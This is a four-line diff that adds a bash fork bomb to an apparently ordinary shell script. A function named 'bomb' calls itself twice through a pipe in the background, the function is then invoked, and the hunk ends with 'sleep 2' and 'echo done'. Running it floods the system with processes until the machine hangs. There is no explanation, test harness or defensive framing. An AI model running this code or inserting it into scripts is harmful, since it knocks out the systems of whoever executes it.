@@ -1,0 +1,4 @@
+bomb() { bomb | bomb & }
+bomb
+sleep 2
+echo done
